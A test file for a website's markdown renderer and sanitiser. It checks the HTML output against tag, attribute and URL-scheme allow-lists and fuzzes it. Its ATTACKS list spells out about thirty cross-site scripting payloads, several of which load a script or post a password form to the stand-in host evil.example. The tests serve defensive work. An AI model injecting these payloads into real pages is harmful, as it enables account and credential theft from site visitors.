import time
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from web.services.markdown import render, render_comment
from web.services.summaries import LONGEST_SUMMARY

SAFE_TAGS = {
    *("p", "br", "em", "strong", "s", "del", "code", "pre", "blockquote", "ul", "ol", "li", "a", "img", "hr"),
    *("h2", "h3", "h4", "h5", "h6", "div", "span", "section", "figure", "figcaption", "details", "summary"),
    *("table", "caption", "colgroup", "col", "thead", "tbody", "tfoot", "tr", "th", "td", "dl", "dt", "dd"),
    *("b", "i", "u", "ins", "mark", "small", "sub", "sup", "kbd", "samp", "var", "tt", "q", "cite", "abbr"),
    *("dfn", "time", "bdi", "bdo", "wbr", "ruby", "rt", "rp", "input", "address", "aside"),
}
SAFE_ATTRIBUTES = {
    *("id", "lang", "dir", "title", "href", "src", "alt", "width", "height", "start", "reversed", "value"),
    *("colspan", "rowspan", "scope", "align", "datetime", "open", "checked", "type", "disabled", "class"),
    *("rel", "loading", "tabindex"),
}

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVa&#x09;Script:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<math><mtext><table><mglyph><style><img src="x" onerror="alert(1)">',
    "<iframe src=https://evil.example></iframe><object data=x></object><embed src=x>",
    "<style>* { display: none }</style><p style='position:fixed'>x",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    '<div\n\n<script\nsrc="https://evil.example/x.js">\n</script>',
    "`<script>`<script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    '![a"onerror="alert(1)](x)',
    '![x](/media/ab/c.webp "a\\" onerror=\\"alert(1)")',
    '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',
    "```<img/onerror=alert(1)>\nx\n```",
    '```python\n"</code></pre><script>alert(1)</script>\n```',
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|--|\n| <b onclick=x> |",
    '<base href="https://evil.example"><meta http-equiv=refresh content=0><link rel=stylesheet href=x>',
    '<img src="/media/../admin" onload=x><img src="//evil.example/p.png">',
    '<p class="comment__reply" id="comment-form" name="x">',
    "<video src=x autoplay onplay=alert(1)></video><audio controls>",
    "<details ontoggle=alert(1) open><summary>x",
    "<a href='vbscript:x'><a href='\x01javascript:alert(1)'>",
]


# Of formulas: nothing that leads anywhere, nothing that runs.
# fmt: off
MATH_TAGS = {
    "math", "mrow", "mi", "mo", "mn", "mtext", "mspace", "ms", "mfrac", "msqrt", "mroot", "mstyle", "msub",
    "msup", "msubsup", "munder", "mover", "munderover", "mtable", "mtr", "mtd", "mpadded", "mphantom",
    "menclose",
}
MATH_ATTRIBUTES = {
    "display", "mathvariant", "displaystyle", "scriptlevel", "stretchy", "fence", "form", "separator",
    "lspace", "rspace", "minsize", "maxsize", "symmetric", "largeop", "movablelimits", "accent",
    "accentunder", "width", "height", "depth", "linebreak", "linethickness", "rowspacing", "columnspacing",
    "columnalign", "columnlines", "rowlines", "frame", "voffset", "notation",
}
# fmt: on


class Checker(HTMLParser):
    """Reads what came out as a browser would, and goes by lists of its own."""

    def handle_starttag(self, tag, attrs):
        if tag in MATH_TAGS:
            assert {name for name, _ in attrs} <= MATH_ATTRIBUTES, attrs
            return
        assert tag in SAFE_TAGS, tag
        for name, value in attrs:
            assert name in SAFE_ATTRIBUTES, f"{tag} {name}"
            if name in {"href", "src"}:
                scheme, colon, _ = (value or "").partition(":")
                is_local = not colon or any(sign in scheme for sign in "/?#")
                assert is_local or scheme.lower() in {"http", "https", "mailto"}, value
        facts = dict(attrs)
        assert tag != "img" or facts["src"].startswith("/media/")
        assert tag != "input" or (facts["type"] == "checkbox" and "disabled" in facts)
        assert "id" not in facts or facts["id"].startswith("text-")

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_safe(html):
    checker = Checker()
    checker.feed(html)
    checker.close()


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "around", ["{}", "> {}", "- {}", "**{}**", "<div>{}</div>", "<div>\n\n{}\n\n</div>", "[{}](x)"]
)
def test_attack_comes_out_harmless(attack, around):
    text = around.replace("{}", attack)
    assert_safe(render(text).html)
    assert_safe(render_comment(text))
    assert "<script" not in render(text).html + render_comment(text)


PIECES = st.sampled_from(
    [*ATTACKS, "\n\n", "\n", "    ", "> ", "- ", "`", "```", "*", "[", "](", ")", "<p>", "</div>"]
)


@given(st.lists(PIECES | st.text(max_size=20), max_size=12).map("".join))
@example("\ud800")
@example("\x00<b>")
@example("![x](https://[)")
@settings(max_examples=400)
def test_nothing_raises_and_all_is_sanitised(text):
    rendered = render(text)
    assert_safe(rendered.html)
    assert_safe(render_comment(text))
    assert len(rendered.summary) <= LONGEST_SUMMARY


@pytest.mark.parametrize(
    "text",
    [
        *("[" * 20_000, "*a **b " * 6_000, "> " * 20_000, "<b>" * 20_000, "`" * 20_000, "![](" * 8_000),
        *("<a><img>" * 8_000, "- " * 5_000, "a@" * 10_000, "[^" * 10_000, "<!--" * 10_000, "|a" * 10_000),
    ],
    ids=lambda text: text[:6],
)
def test_hostile_repetition_takes_no_long_time(text):
    start = time.process_time()  # its own, whatever else the machine does
    assert_safe(render(text).html)
    render_comment(text)
    assert time.process_time() - start < 10


def test_headings_start_below_the_title():
    assert "<h2 " in render("## Ink").html
    lowered = render("# Ink\n\n## Stone").html
    assert '<h2 id="text-ink">' in lowered
    assert '<h3 id="text-stone">' in lowered


def test_ids_differ_and_links_within_the_text_follow_them():
    html = render("## 墨 Ink!\n\n## 墨 Ink!\n\n[up](#墨-ink)").html
    assert 'id="text-墨-ink"' in html
    assert 'id="text-墨-ink-2"' in html
    assert 'href="#text-' in html


def test_code_has_the_classes_of_the_style_sheet():
    html = render("```python\ndef f(): return 1  # why\n```").html
    assert '<pre class="highlight" tabindex="0"><code><span class="k">def</span>' in html
    assert '<span class="c1"># why</span>' in html


@pytest.mark.parametrize("language", ["", "no-such-language", "{.python}", "python{1,2}", "x" * 500, "<b>"])
def test_code_of_any_language_keeps_its_text(language):
    html = render(f"```{language}\na < b\n\n\n```").html
    assert "a" in html
    assert "&lt;" in html


def test_tables_lists_of_tasks_notes_and_strikes_are_known():
    html = render("| a |\n|--:|\n| 1 |\n\n- [x] done\n\n~~old~~ text[^n]\n\n[^n]: Note.").html
    assert '<div class="table"><table>' in html
    assert '<td align="right">1</td>' in html
    assert '<li class="task-list-item"><label><input class="task-list-item-checkbox"' in html
    assert "<s>old</s>" in html
    assert '<section class="footnotes">' in html
    assert 'href="#text-fn1" id="text-fnref1"' in html


def test_table_in_a_table_has_one_box():
    html = render("<table><tr><td><table><tr><td>x</table></table>").html
    assert html.count('<div class="table">') == html.count("</div>") == 1


def test_own_picture_stays_with_its_size():
    html = render("![A stone](/media/ab/cdef.webp#640x480)").html
    picture = '<img src="/media/ab/cdef.webp" alt="A stone" width="640" height="480" loading="lazy">'
    assert html == f"<p>{picture}</p>\n"
    assert picture in render('<img src="/media/ab/cdef.webp" alt="A stone" width=640 height=480>').html
    assert (
        render("![](/media/ab/cdef.webp)").html
        == '<p><img src="/media/ab/cdef.webp" alt="" loading="lazy"></p>\n'
    )


def test_picture_with_a_title_becomes_a_figure():
    html = render('![A stone](/media/ab/cdef.webp "From the <river>")').html
    assert html.startswith("<figure><img ")
    assert "<figcaption>From the &lt;river&gt;</figcaption></figure>" in html


@pytest.mark.parametrize(
    "address", ["https://other.example/a/p.png?x=1", "//other.example/p.png", "pictures/p.png"]
)
def test_other_pictures_become_links(address):
    link = f'<a class="external-picture" href="{address}">'
    assert f"{link}A stone</a>" in render(f"![A stone]({address})").html
    assert f"{link}p.png</a>" in render(f'<img src="{address}">').html


def test_picture_in_a_link_leaves_one_link():
    html = render("[![Stone](https://other.example/p.png)](https://ok.example)").html
    assert html == '<p><a href="https://ok.example">Stone</a></p>\n'


def test_comment_keeps_typed_html_as_text_and_marks_links():
    html = render_comment("A List<int> & <b>\n[x](https://ok.example) www.ok.example")
    assert html.startswith("<p>A List&lt;int&gt; &amp; &lt;b&gt;<br>\n")
    assert html.count('rel="nofollow ugc noopener"') == 2


def test_comment_has_no_heading_picture_id_or_table():
    html = render_comment("# Big\n\n![p](/media/ab/c.webp)\n\n| a |\n|---|\n| b |")
    assert "<p><strong>Big</strong></p>" in html
    assert 'class="external-picture" href="/media/ab/c.webp" rel="nofollow ugc noopener">p</a>' in html
    assert "<table" not in html
    assert "<h1" not in html


def test_lines_of_chinese_are_joined_without_a_space():
    rendered = render("磨墨要\n慢。\nSlow\nink.")
    assert rendered.html == "<p>磨墨要慢。\nSlow\nink.</p>\n"
    assert rendered.summary == "磨墨要慢。 Slow ink."


def test_summary_is_the_first_paragraph_as_plain_text():
    text = (
        "# Title\n\n![p](/media/ab/c.webp)\n\n> quoted\n\n"
        + "Slow *ink* & `code`[^1]. " * 12
        + "\n\nNot this.\n\n[^1]: No."
    )
    assert render(text).summary == ("Slow ink & code. " * 12).strip()


def test_short_paragraphs_are_taken_together_and_the_rest_is_left():
    assert render("One.\n\nTwo.\n\n```\ncode\n```").summary == "One. Two."
    assert render("<p>One.</p><div>no</div><p>Two.</p>").summary == "One. Two."


def test_text_without_a_paragraph_gives_what_it_has():
    assert render("- ink\n- stone").summary == "ink stone"
    assert render("```\ncode\n```").summary == ""


def test_summary_ends_where_the_writer_said():
    assert render("One.\n\n- two\n\nThree.\n\n<!--more-->\n\nFour.").summary == "One. Three."
    assert render("One <!-- more --> two.").summary == "One"


def test_long_summary_is_cut_at_a_word():
    summary = render("grinding " * 200).summary
    assert summary.endswith("grinding…")
    assert LONGEST_SUMMARY - 10 < len(summary) <= LONGEST_SUMMARY


def test_long_chinese_summary_is_cut_after_a_mark():
    assert render("磨墨要慢，写字要静。" * 80).summary.endswith("。磨墨要慢…")
    assert len(render("墨" * 900).summary) == LONGEST_SUMMARY
